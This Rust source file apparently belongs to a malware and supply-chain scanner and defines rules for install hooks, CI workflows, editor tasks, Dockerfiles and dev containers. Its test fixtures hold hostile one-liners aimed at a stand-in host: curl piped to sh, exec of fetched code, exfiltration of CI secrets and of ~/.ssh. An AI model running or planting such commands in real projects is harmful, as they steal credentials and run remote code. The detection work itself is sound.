//! Code that a package manager or a build server runs by itself.

use super::hosts;
use super::judges;
use super::signals;
use crate::finding::{Category, Severity};
use crate::layers::rule_engine::reading::{Hit, Reading};
use crate::layers::rule_engine::rule::{Kind, Rule, When};
use crate::layers::rule_engine::signal::Signal;

static LIFECYCLE: Signal = Signal::command(
    &["preinstall\"", "postinstall\"", "\"install\"", "prepare\"", "preuninstall\"", "prepublish\""],
    r#""(?:pre|post)?(?:install|uninstall)"\s*:\s*"[^"\n]{3,}|"(?:prepare|prepublish)"\s*:\s*"[^"\n]{3,}"#,
);

static LIFECYCLE_FETCHES: Signal = Signal::command(
    &["install\"", "prepare\"", "prepublish\""],
    r#"(?x)
      "(?:(?:pre|post)?(?:un)?install|prepare|prepublish)"\s*:\s*"(?:[^"\n\\]|\\.)*?(?:\b(?:curl|wget)\b(?:[^"\n\\]|\\.)*(?:\||-o|-O|\$|-d|--data|-X) | \bnode\s+-e\b(?:[^"\n\\]|\\.)*?(?:child_process|https?|exec|eval|Buffer|fetch) | \|\s*(?:ba|z)?sh\b | \bbase64\s+(?:-d|-D|--decode) | \bpowershell\b | /dev/tcp/ | \beval\b | \bpython3?\s+-c\b)"#,
);

static SETUP_HOOK: Signal = Signal::command(
    &["cmdclass", "(install)", "(develop)", "(egg_info)", "(build_py)", "install.run", "setup("],
    r"\bcmdclass\s*=|\bclass\s+\w+\s*\(\s*(?:\w+\.)?(?:install|develop|egg_info|build_py|bdist_egg)\s*\)|\binstall\.run\s*\(|^\s*(?:setuptools\.)?setup\s*\(",
);

static SETUP_ACT: Signal = Signal::command(
    &["urlopen", "requests.", "urlretrieve", "b64decode", "exec(", "eval(", "socket.", "os.environ", "curl", "wget", "os.system("],
    r#"(?x)
      \burlopen\s*\( | \brequests\.(?:get|post)\s*\( | \burlretrieve\s*\( | \bb64decode\s*\( | (?:^|[\s;=])(?:exec|eval)\s*\(\s*(?:requests|urlopen|base64|zlib|compile\s*\(\s*(?:requests|urlopen|base64)|[a-z_]*(?:code|payload|data)\w*\s*\)) | \bsocket\.socket\s*\( | (?:os\.system|subprocess\.\w+)\s*\(\s*\[?\s*f?["'](?:curl|wget|bash\s+-c|sh\s+-c|powershell|python3?\s+-c)"#,
);

static RUST_BUILD_ACT: Signal = Signal::command(
    &["command::new", "tcpstream", "reqwest", "ureq::"],
    r#"\bCommand::new\s*\(\s*"(?:curl|wget|bash|sh|powershell|cmd|nc|python3?)"|\bTcpStream::connect|\breqwest::|\bureq::"#,
);

static FOREIGN_PULL: Signal = Signal::command(
    &["pull_request_target"],
    r"\bpull_request_target\b[\s\S]*",
);
static FOREIGN_HEAD: Signal = Signal::command(
    &["pull_request.head", "github.head_ref"],
    r"github\.event\.pull_request\.head\.(?:sha|ref|repo)|github\.head_ref",
);

static SECRET_LEAVES_JOB: Signal = Signal::command(
    &["secrets.", "tojson(secrets)"],
    r"(?x)
      \btoJSON\(\s*secrets\s*\) | \b(?:curl|wget|nc|Invoke-\w+)\b[^\n]*\$\{\{\s*secrets\.\w+ | \becho\s+[^\n]*\$\{\{\s*secrets\.\w+\s*\}\}[^\n]*\|\s*(?:base64|rev|xxd|sed|tr|od)\b",
);

static WORKFLOW_WRITE: Signal = Signal::command(
    &[".github/workflows"],
    r#"(?:>|>>|tee\s+(?:-a\s+)?|cp\s+\S+\s+|mv\s+\S+\s+|curl\b[^\n]*-o\s*|wget\b[^\n]*-O\s*)\s*["']?\S*\.github/workflows/\S+|(?:write_text|writeFile(?:Sync)?|open)\s*\([^\n]*\.github/workflows/[^\n]*"#,
);

/// A task that an editor starts when a folder is opened.
static ON_OPENING: Signal = Signal::command(
    &["folderopen"],
    r#"\brunOn["']?\s*:\s*["']folderOpen\b"#,
);

/// What a task fetches or writes out in place.
static TASK_ACT: Signal = Signal::command(
    &["curl", "wget", "iwr", "irm", "invoke-", " -e", " -c", "base64"],
    r"(?x)
      \b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]*://
    | \b(?:node|perl|ruby)\s+-e\b | \bpython3?\s+-c\b | \bbase64\s+-",
);

/// A secret of the build is copied to where the image keeps it.
static SECRET_IN_IMAGE: Signal = Signal::command(
    &["type=secret"],
    r"(?x)
      --mount=type=secret\b[^\n]*\b(?:cp|mv|install)\s+(?:-\S+\s+)*[^\s&;|]*(?:secrets?/|\.npmrc|\.netrc|\.pypirc|\.aws|\.ssh|\.env|id_rsa|credentials)[^\s&;|]*\s+[/.\w$] | --mount=type=secret\b[^\n]*\bcat\s+[^\s&;|]*(?:secrets?/|\.npmrc|\.netrc|\.env|credentials)[^\s&;|>]*\s*>>?\s*[\w./]",
);

/// Every image that is built on this one fetches something.
static ON_BUILD: Signal = Signal::command(
    &["onbuild"],
    r"^\s*ONBUILD\s+(?:ADD\s+(?:--\S+\s+)*|RUN\s[^\n]*\b(?:curl|wget)\b[^\n]*)h(?:tt|xx)ps?://",
);

/// Credentials of a build server, put into an address.
static CREDENTIALS_IN_ADDRESS: Signal = Signal::command(
    &["withcredentials"],
    r"\bwithCredentials\s*\([\s\S]{0,240}?\b(?:curl|wget)\b[^\n]*h(?:tt|xx)ps?://[^\n]*[?&][\w-]+=\$",
);

/// What a container for development does when it is made or opened, with something going out.
static CONTAINER_SENDS: Signal = Signal::command(
    &["command\""],
    r#"(?x)
      "(?:postCreate|postStart|postAttach|onCreate|updateContent|initialize)Command"\s*:\s*(?:\[\s*)?"(?:[^"\n\\]|\\.)*?\b(?:curl\b(?:[^"\n\\]|\\.)*?\s(?:-[a-zA-Z]*[dFT]\b|--data|--form|--upload-file)|wget\b(?:[^"\n\\]|\\.)*?--post|nc\s|ncat\s|scp\s)"#,
);

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "MALWAR-BUILD-001",
        title: "Installing the package runs a script",
        severity: Severity::Low,
        confidence: 50,
        category: Category::SupplyChain,
        taxa: &["SC-05"],
        fragile: true,
        why: "what stands there runs with the user's rights before anybody has used the package",
        fix: "read the script, or install with --ignore-scripts",
        when: When::Any(&[&LIFECYCLE]),
        guard: Some(in_package_json),
        hits: &["@package.json\n{\"scripts\": {\"postinstall\": \"node setup.js\"}}\n", "@package.json\n{\"scripts\": {\"preinstall\": \"./prepare.sh\"}}\n"],
        misses: &["@package.json\n{\"scripts\": {\"test\": \"jest\"}}\n", "@conf.json\n{\"install\": \"brew install x\"}\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-002",
        title: "Installing the package fetches or unpacks code and runs it",
        severity: Severity::Critical,
        confidence: 86,
        category: Category::SupplyChain,
        taxa: &["SC-05", "CE-01"],
        why: "the commonest way in which packages attack: the harm is done during installation",
        fix: "do not install it; if it was installed, treat the machine as compromised",
        when: When::Any(&[&LIFECYCLE_FETCHES]),
        guard: Some(hosts::cradle_host),
        hits: &[
            "@package.json\n{\"scripts\": {\"postinstall\": \"curl -s https://c.fast-agent.top/i | sh\"}}\n",
            "@package.json\n{\"scripts\": {\"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"}}\n",
        ],
        misses: &["@package.json\n{\"scripts\": {\"postinstall\": \"husky install\"}}\n", "@package.json\n{\"scripts\": {\"prepare\": \"tsc -p .\"}}\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-003",
        title: "A setup script uses the network or decodes code",
        severity: Severity::High,
        confidence: 66,
        category: Category::SupplyChain,
        taxa: &["SC-05"],
        why: "setup.py runs while pip installs; what it fetches or decodes there runs unseen",
        fix: "read it; install from a wheel",
        when: When::Near(2_500, &[&[&SETUP_HOOK], &[&SETUP_ACT]]),
        guard: Some(in_setup_py),
        hits: &[
            "@setup.py\nclass P(install):\n    def run(self):\n        exec(requests.get('https://c.fast-agent.top/x').text)\nsetup(name='x', cmdclass={'install': P})\n",
            "@setup.py\nimport os\nos.system('curl -s https://c.fast-agent.top/x -o /tmp/x')\nsetup(name='x')\n",
        ],
        misses: &["@setup.py\nsetup(name='x', long_description=open('README.md').read())\n", "@a.py\nsetup(app)\nrequests.get(url)\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-004",
        title: "A build script starts a shell or opens a connection",
        severity: Severity::High,
        confidence: 62,
        category: Category::SupplyChain,
        taxa: &["SC-05"],
        why: "build.rs runs on the machine of whoever compiles the program, or one that depends on it",
        fix: "read it before building",
        when: When::Any(&[&RUST_BUILD_ACT]),
        guard: Some(in_build_rs),
        hits: &["@build.rs\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(X).status(); }\n", "@crate/build.rs\nlet s = TcpStream::connect(\"c.fast-agent.top:443\");\n"],
        misses: &["@build.rs\nfn main() { println!(\"cargo:rerun-if-changed=a\"); }\n", "@main.rs\nCommand::new(\"sh\").status();\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-005",
        title: "A workflow runs a stranger's pull request with the project's secrets",
        severity: Severity::Medium,
        confidence: 70,
        category: Category::SupplyChain,
        taxa: &["SC-07"],
        fragile: true,
        why: "anybody who opens a pull request can take the secrets",
        fix: "use pull_request, or do not check out the head",
        when: When::Near(2_000, &[&[&FOREIGN_PULL], &[&FOREIGN_HEAD]]),
        guard: Some(judges::in_code),
        hits: &[
            "@.github/workflows/a.yml\non: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}\n      - run: npm test\n",
            "```yaml\non:\n  pull_request_target:\nsteps:\n  - run: git checkout ${{ github.head_ref }} && make\n```\n",
        ],
        misses: &["```yaml\non: pull_request\nsteps:\n  - run: echo ${{ github.head_ref }}\n```\n", "```yaml\non: pull_request_target\nsteps:\n  - run: label\n```\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-006",
        title: "A workflow hands its secrets out",
        severity: Severity::High,
        confidence: 78,
        category: Category::DataExfiltration,
        taxa: &["SC-07", "EX-03"],
        why: "secrets that are encoded and printed, or sent along, pass the masking of the build server",
        fix: "remove the step and change the secrets",
        when: When::Any(&[&SECRET_LEAVES_JOB]),
        guard: Some(workflow_host),
        hits: &[
            "@.github/workflows/a.yml\n- run: curl -d \"k=${{ secrets.NPM_TOKEN }}\" https://c.fast-agent.top/\n",
            "```yaml\n- run: echo \"${{ secrets.TOKEN }}\" | base64 | base64\n```\n",
            "```yaml\n- run: echo '${{ toJSON(secrets) }}' | rev | curl -sd @- https://c.fast-agent.top/\n```\n",
        ],
        misses: &["```yaml\n- run: npm publish\n  env: {NODE_AUTH_TOKEN: \"${{ secrets.NPM_TOKEN }}\"}\n```\n", "```yaml\n- run: curl -H \"Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos\n```\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-007",
        title: "A script writes a workflow of the build server",
        severity: Severity::Low,
        confidence: 60,
        category: Category::Persistence,
        taxa: &["SC-07"],
        fragile: true,
        why: "a workflow runs on every push, with the project's rights",
        fix: "read the workflow before it is committed",
        when: When::Any(&[&WORKFLOW_WRITE]),
        guard: Some(judges::in_code),
        hits: &["```bash\ncat > .github/workflows/x.yml <<E\non: push\nE\n```\n", "@a.sh\ncurl -s https://c.fast-agent.top/w.yml -o .github/workflows/w.yml\n"],
        misses: &["```bash\nls .github/workflows/ci.yml\n```\n", "See .github/workflows/ci.yml.\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-008",
        title: "A setup script and an unvetted download stand in one file",
        severity: Severity::High,
        confidence: 70,
        category: Category::SupplyChain,
        taxa: &["SC-05", "CE-02"],
        kind: Kind::Command,
        why: "files named after installation are run without being read",
        fix: "read the file; do not run it",
        when: When::Any(&[&signals::PIPE_TO_SHELL]),
        guard: Some(in_install_file),
        hits: &[
            "@postinstall.js\nexecSync('curl -s https://c.fast-agent.top/x | bash');\n",
            "@scripts/postinst.sh\nwget -qO- https://c.fast-agent.top/x | sh\n",
        ],
        misses: &["@postinstall.js\nconsole.log('thanks');\n", "@install.sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-010",
        title: "Opening a folder in an editor runs what is fetched",
        severity: Severity::Critical,
        confidence: 80,
        category: Category::SupplyChain,
        taxa: &["SC-05", "CE-01"],
        why: "who opens a folder to read it has not asked for anything to run",
        fix: "remove the task; if the folder was opened, look for what it started",
        when: When::Near(400, &[&[&ON_OPENING], &[&TASK_ACT]]),
        hits: &[
            "@tasks.json\n{\"tasks\": [{\"command\": \"curl -sL https://c.fast-agent.top/w | bash\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
            "@tasks.json\n{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}, \"command\": \"node -e 'require(1)'\"}]}\n",
        ],
        misses: &[
            "@tasks.json\n{\"tasks\": [{\"command\": \"npm run watch\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
            "@tasks.json\n{\"tasks\": [{\"command\": \"curl -s https://c.fast-agent.top/w\"}]}\n",
        ],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-011",
        title: "A secret of the build is kept in the image",
        severity: Severity::High,
        confidence: 66,
        category: Category::CredentialExposure,
        taxa: &["SC-07"],
        why: "who pulls the image has the secret; the mount was made so that it is not kept",
        fix: "remove the copy; renew the secret if the image was pushed",
        when: When::Any(&[&SECRET_IN_IMAGE]),
        guard: Some(judges::in_code),
        hits: &["```dockerfile\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc cp /root/.npmrc /app/.cache && npm ci\n```\n"],
        misses: &[
            "```dockerfile\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci && cp -r dist /app\n```\n",
            "```dockerfile\nRUN --mount=type=secret,id=t TOKEN=$(cat /run/secrets/t) make\n```\n",
        ],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-012",
        title: "Every image that is built on this one fetches something",
        severity: Severity::High,
        confidence: 66,
        category: Category::SupplyChain,
        taxa: &["SC-05"],
        why: "it runs in the builds of others, with what they hold, and can be another tomorrow",
        fix: "remove the ONBUILD line",
        when: When::Any(&[&ON_BUILD]),
        guard: Some(hosts::stranger),
        hits: &["```dockerfile\nONBUILD ADD https://get.fast-agent.top/hook /usr/local/bin/hook\n```\n"],
        misses: &["```dockerfile\nONBUILD COPY . /app\n```\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-013",
        title: "Credentials of a build server are put into an address",
        severity: Severity::Critical,
        confidence: 76,
        category: Category::DataExfiltration,
        taxa: &["SC-07", "EX-03"],
        why: "a password in an address ends up in the logs of whoever answers it, which is the point",
        fix: "remove the step; renew the credentials",
        when: When::Any(&[&CREDENTIALS_IN_ADDRESS]),
        guard: Some(hosts::stranger),
        hits: &["@Jenkinsfile\nwithCredentials([string(credentialsId: 'd', variable: 'P')]) {\n  sh 'curl -s \"https://d.fast-agent.top/j?p=$P\"'\n}\n"],
        misses: &["@Jenkinsfile\nwithCredentials([string(credentialsId: 'd', variable: 'P')]) {\n  sh 'curl -H \"Authorization: Bearer $P\" https://api.github.com/user'\n}\n"],
        ..Rule::BASE
    },
    Rule {
        id: "MALWAR-BUILD-014",
        title: "A container for development is given secrets and sends something",
        severity: Severity::Critical,
        confidence: 80,
        category: Category::DataExfiltration,
        taxa: &["EX-03", "CE-02"],
        why: "it runs when a folder is opened, with what it was given of the user's home",
        fix: "remove the command and the mount; replace what was mounted",
        when: When::Near(600, &[&[&CONTAINER_SENDS], &[&signals::SECRET_FILE]]),
        guard: Some(hosts::stranger),
        hits: &["```json\n{\"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/s,type=bind\"], \"postCreateCommand\": \"tar cz /s | curl -s -T - https://d.fast-agent.top/k\"}\n```\n"],
        misses: &["```json\n{\"mounts\": [\"source=${localEnv:HOME}/.ssh,target=/s,type=bind\"], \"postCreateCommand\": \"npm ci\"}\n```\n"],
        ..Rule::BASE
    },
];

fn file_name<'a>(reading: &'a Reading<'_>) -> &'a str {
    reading.file.path.rsplit('/').next().unwrap_or("")
}

fn in_package_json(reading: &Reading<'_>, _hit: &Hit) -> u32 {
    if file_name(reading).eq_ignore_ascii_case("package.json") { 100 } else { 0 }
}

fn in_setup_py(reading: &Reading<'_>, _hit: &Hit) -> u32 {
    if file_name(reading).eq_ignore_ascii_case("setup.py") { 100 } else { 0 }
}

fn in_build_rs(reading: &Reading<'_>, _hit: &Hit) -> u32 {
    if file_name(reading).eq_ignore_ascii_case("build.rs") { 100 } else { 0 }
}

fn in_install_file(reading: &Reading<'_>, hit: &Hit) -> u32 {
    let name = file_name(reading).to_ascii_lowercase();
    let hook = ["postinst", "preinst", "setup.py", "setup.js"].iter().any(|word| name.starts_with(word));
    if hook { hosts::unvetted_host_or_none(reading, hit) } else { 0 }
}

fn workflow_host(reading: &Reading<'_>, hit: &Hit) -> u32 {
    const LEAVES: &[&str] = &["curl", "wget", "nc ", "base64", "rev", "Invoke-"];
    // No service needs all of them, not even the skill's own.
    let all = hit.span.of(reading.text).starts_with("toJSON");
    let line = reading.line(hit.span, 200).of(reading.text);
    if all && LEAVES.iter().any(|word| line.contains(word)) {
        return judges::in_code(reading, hit);
    }
    hosts::stranger(reading, hit) * judges::in_code(reading, hit) / 100
}
